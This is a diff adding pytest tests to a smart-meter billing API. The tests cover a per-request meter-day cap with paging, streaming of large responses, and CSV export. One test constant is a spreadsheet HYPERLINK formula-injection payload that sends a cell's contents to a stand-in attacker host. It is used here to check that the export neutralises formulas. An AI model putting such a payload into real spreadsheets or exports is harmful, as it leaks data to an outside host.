@@ -2,14 +2,20 @@
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
+import json
+from collections.abc import MutableMapping
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
+from typing import Any
+from urllib.parse import urlencode
 
 import httpx
 import pytest
 
+from headend.api import routes_billing
 from headend.readings import Quality, Reading, ReadingKind
 from tests.api.billing_fleet import NEVER_READ, SIMULATED, START, billing_rig, stored_reading
 from tests.api.fleet import READER, LiveFleet
@@ -175,3 +181,166 @@ async def test_history_accepts_every_quantity_the_meter_lists(tmp_path: Path) ->
     assert ("clock_drift", "state") in listed
     assert ("energy_active_import_total", "energy") in listed  # the live register, not a freeze
     assert all(answer[0] == 200 and answer[1] > 0 for answer in answers.values()), answers
+
+
+# -- the work one request may ask for is capped; pages and streams keep the loop free ----------
+
+
+async def test_billing_over_the_cap_is_refused_naming_the_limit_and_pages_fit(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(routes_billing, "MAX_METER_DAYS", 5)
+    period = {"start": "2026-03-08", "end": "2026-03-10"}  # 3 days
+    async with billing_rig(tmp_path) as rig:
+        await rig.engine.backfill_pass()
+        await rig.engine.writer.flush()
+        whole = await rig.http.get(
+            "/api/billing", headers=READER, params={"transformer": "T1", **period}
+        )
+        too_big_page = await rig.http.get(
+            "/api/billing", headers=READER, params={"transformer": "T1", "limit": 2, **period}
+        )
+        pages = []
+        cursor: str | None = None
+        while True:
+            params: dict[str, str | int] = {"transformer": "T1", "limit": 1, **period}
+            if cursor is not None:
+                params["cursor"] = cursor
+            response = await rig.http.get("/api/billing", headers=READER, params=params)
+            assert response.status_code == 200, response.text
+            pages.append(response.json())
+            cursor = response.json()["next_cursor"]
+            assert response.headers.get("x-next-cursor") == cursor
+            if cursor is None:
+                break
+    assert whole.status_code == 422
+    error = whole.json()["detail"][0]
+    assert error["loc"] == ["query", "transformer"]
+    assert "3 meters x 3 days = 9 meter-days; at most 5 meter-days" in error["msg"]
+    assert "limit=1" in error["msg"]
+    assert too_big_page.status_code == 422
+    assert too_big_page.json()["detail"][0]["loc"] == ["query", "limit"]
+    assert [page["meters"] for page in pages] == [["m1"], ["m2"], [NEVER_READ]]
+    assert [{row["meter"] for row in page["daily"]} for page in pages] == [
+        {"m1"},
+        {"m2"},
+        {NEVER_READ},
+    ]
+    assert [page["not_collected"] for page in pages] == [0, 0, 3]
+
+
+def asgi_get(path: str, params: dict[str, object]) -> dict[str, object]:
+    """An ASGI scope for GET ``path`` as a reader: to watch a response arrive piece by piece."""
+    return {
+        "type": "http",
+        "asgi": {"version": "3.0"},
+        "http_version": "1.1",
+        "method": "GET",
+        "scheme": "http",
+        "path": path,
+        "raw_path": path.encode(),
+        "root_path": "",
+        "query_string": urlencode(params, doseq=True).encode(),
+        "headers": [(b"host", b"headend"), (b"authorization", READER["Authorization"].encode())],
+        "client": ("127.0.0.1", 40000),
+        "server": ("headend", 80),
+    }
+
+
+async def test_a_year_of_billing_streams_while_requests_and_collection_go_on(
+    tmp_path: Path,
+) -> None:
+    """The large response is held after its first piece; meanwhile a cheap request is answered
+    and collection stores a reading. Built whole (before), the first piece was the last."""
+    period = {"start": "2025-03-10", "end": "2026-03-10"}  # 366 days, one meter per chunk
+    async with billing_rig(tmp_path) as rig:
+        await rig.engine.backfill_pass()
+        await stored_reading(rig.engine, "m1", "energy_active_import_total")
+        first_piece = asyncio.Event()
+        resume = asyncio.Event()
+        pieces: list[bytes] = []
+        statuses: list[int] = []
+        never: asyncio.Event = asyncio.Event()
+        requested = False
+
+        async def receive() -> dict[str, object]:
+            nonlocal requested
+            if not requested:
+                requested = True
+                return {"type": "http.request", "body": b"", "more_body": False}
+            await never.wait()  # the client stays connected
+            return {"type": "http.disconnect"}
+
+        async def send(message: MutableMapping[str, Any]) -> None:
+            if message["type"] == "http.response.start":
+                statuses.append(message["status"])
+            if message["type"] == "http.response.body":
+                pieces.append(message.get("body", b""))
+                if len(pieces) == 1:
+                    first_piece.set()
+                    await resume.wait()
+
+        scope = asgi_get("/api/billing", {"transformer": "T1", **period})
+        large = asyncio.create_task(rig.app(scope, receive, send))
+        await first_piece.wait()
+        cheap = await rig.http.get("/api/meters/m1", headers=READER)
+        collected = await stored_reading(rig.engine, "m2", "energy_active_import_total")
+        large_was_running = not large.done()
+        resume.set()
+        await large
+        history = await rig.http.get(
+            "/api/meters/m2/readings",
+            headers=READER,
+            params={
+                "quantity": "energy_active_import_total",
+                "kind": "energy",
+                "start": collected.timestamp.isoformat(),
+                "end": (collected.timestamp + timedelta(seconds=1)).isoformat(),
+            },
+        )
+    assert cheap.status_code == 200
+    assert large_was_running
+    assert [point["value"] for point in history.json()["points"]] == [collected.value]
+    assert statuses == [200]
+    assert len(pieces) > 3  # streamed in chunks, not built whole
+    body = json.loads(b"".join(pieces))
+    assert len(body["daily"]) == 3 * 366
+    assert {row["meter"] for row in body["daily"]} == {"m1", "m2", NEVER_READ}
+    assert body["not_collected"] == 3 * 366 - 2 * 3  # two meters, three backfilled days each
+
+
+# -- CSV: no formula injection, and what a billing clerk files by ------------------------------
+
+HOSTILE_BUILDING = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+async def test_billing_csv_neutralises_formulas_and_carries_address_household_and_times(
+    tmp_path: Path,
+) -> None:
+    async with billing_rig(tmp_path, building=HOSTILE_BUILDING) as rig:
+        await rig.engine.backfill_pass()
+        await stored_reading(rig.engine, "m1", "energy_active_import_total")
+        response = await rig.http.get(
+            "/api/billing.csv",
+            headers=READER,
+            params={"transformer": "T1", "start": "2026-03-10", "end": "2026-03-10"},
+        )
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert {row["building"] for row in rows} == {"'" + HOSTILE_BUILDING}
+    for row in rows:
+        for column, cell in row.items():
+            if column != "value":  # numbers we wrote from floats
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    daily = {row["meter"]: row for row in rows if row["record"] == "daily"}
+    m1 = daily["m1"]
+    assert (m1["address"], m1["household"], m1["transformer"]) == ("000000000001", "flat-m1", "T1")
+    assert m1["timestamp_local"] == "2026-03-10T00:00:00+08:00"
+    assert m1["timestamp_utc"] == "2026-03-09T16:00:00+00:00"
+    assert daily[NEVER_READ]["state"] == "not_collected"
+    assert daily[NEVER_READ]["address"] == "000000000099"
+    intervals = [row for row in rows if row["record"] == "interval" and row["meter"] == "m1"]
+    assert intervals
+    local = datetime.fromisoformat(intervals[0]["timestamp_local"])
+    assert local.utcoffset() == timedelta(hours=8)
+    assert local == datetime.fromisoformat(intervals[0]["timestamp_utc"])
